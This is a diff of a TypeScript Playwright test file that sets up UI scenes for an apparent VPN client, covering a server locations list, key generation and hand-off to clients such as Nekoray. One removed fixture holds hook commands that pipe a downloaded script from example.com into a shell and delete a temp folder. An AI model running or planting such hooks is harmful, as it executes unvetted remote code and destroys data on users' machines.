@@ -1,45 +1,16 @@
 import type { Page } from 'playwright-core';
-import type { FakeOptions } from '#test/renderer/fake/options.ts';
-import { purchaseEntry } from './entry.ts';
-import type { Scene } from './scene.ts';
-
-const location = (
-  id: number,
-  code: string,
-  title: string,
-  description: string,
-  ping_ip: string | null = `192.0.2.${String(id)}`,
-  is_active = true,
-) => ({ id, code, title, description, is_active, ping_ip });
-const library: FakeOptions['library'] = {
-  'locations.list': [
-    location(1, 'de', 'Germany', 'Frankfurt'),
-    location(2, 'nl', 'Нидерланды', 'Амстердам'),
-    location(4, 'fi', 'Finland', 'Helsinki, for those who need a long line to say where it is'),
-    location(5, 'pl', 'Poland', 'Warsaw'),
-    location(8, 'us', 'United States of America, west coast, behind the mountains', 'Los Angeles'),
-    location(9, 'jp', 'Japan', 'Tokyo', '2001:db8:85a3::8a2e:370:7334', false),
-    location(18, 'ru', 'Россия', 'Москва', null),
-  ],
-};
-const fromService = purchaseEntry({
-  endpoint: 'xray.createKeys',
-  productKind: null,
-  spends: false,
-  input: {},
-  result: { by: 'answer' },
-  balance: null,
-  secrets: [
-    { name: 'private-key', hidden: 43 },
-    { name: 'public-key', hidden: 43 },
-  ],
-  unsaved: true,
-});
+import { addCommands } from '#test/renderer/window/account.ts';
+import type { MainProcess } from '#test/renderer/window/main-process.ts';
+import { buy } from './purchases-made.ts';
+import { offline, unanswered, unreached, type Scene } from './scene.ts';
 
 async function measure(page: Page): Promise<void> {
   await page.locator('table').waitFor();
   await page.locator('button:has-text("Measure"), button:has-text("Измерить")').click();
-  await page.getByText(/no answer|нет ответа/).waitFor();
+  await page
+    .getByText(/no answer|нет ответа/)
+    .first()
+    .waitFor();
 }
 
 async function toKeys(page: Page): Promise<void> {
@@ -73,6 +44,8 @@ async function openInClient(page: Page): Promise<void> {
     .click();
 }
 
+const makeKeys = (main: MainProcess) => main.ask('tools.makeKeys', {});
+
 /** The palette, the selection in the list, the hand-over to a client, and the tools. */
 export const toolScenes: readonly Scene[] = [
   { name: 'palette', act: palette() },
@@ -90,14 +63,18 @@ export const toolScenes: readonly Scene[] = [
   },
   {
     name: 'picked-commands',
-    fake: { commands: ['PostUp = curl https://example.com/x | sh', 'PreDown = rm -r /tmp/x'] },
+    setup: { service: addCommands },
     act: async (page) => {
       await pickThree(page);
       await page.getByRole('toolbar').getByRole('button').last().click();
       await page.getByRole('toolbar').getByRole('switch').waitFor();
     },
   },
-  { name: 'client-handed', fake: { client: 'Nekoray' }, act: openInClient },
+  {
+    name: 'client-handed',
+    setup: { machine: ({ shell }) => shell.clients.set('vless', 'Nekoray') },
+    act: openInClient,
+  },
   {
     name: 'client-nobody',
     act: async (page) => {
@@ -106,24 +83,21 @@ export const toolScenes: readonly Scene[] = [
     },
   },
   { name: 'help', path: '/help' },
-  { name: 'tools', path: '/tools', fake: { library } },
-  { name: 'tools-measured', path: '/tools', fake: { library }, act: measure },
-  { name: 'tools-keys', path: '/tools', fake: { library, made: true }, act: toKeys },
+  { name: 'tools', path: '/tools' },
+  { name: 'tools-measured', path: '/tools', act: measure },
+  { name: 'tools-keys', path: '/tools', setup: { before: makeKeys }, act: toKeys },
   {
     name: 'tools-keys-service',
     path: '/tools',
-    fake: {
-      library,
-      made: true,
-      journal: { entries: [fromService], unreadable: [], persistent: true },
+    setup: {
+      before: async (main) => {
+        await makeKeys(main);
+        await buy(main, 'xray.createKeys');
+      },
     },
     act: toKeys,
   },
-  { name: 'tools-first', path: '/tools' },
-  { name: 'tools-loading', path: '/tools', fake: { silent: ['cache.read'] } },
-  {
-    name: 'tools-offline',
-    path: '/tools',
-    fake: { libraryFailure: { kind: 'offline', reason: 'unreachable' } },
-  },
+  { name: 'tools-first', path: '/tools', setup: unreached },
+  { name: 'tools-loading', path: '/tools', setup: unanswered },
+  { name: 'tools-offline', path: '/tools', ...offline },
 ];
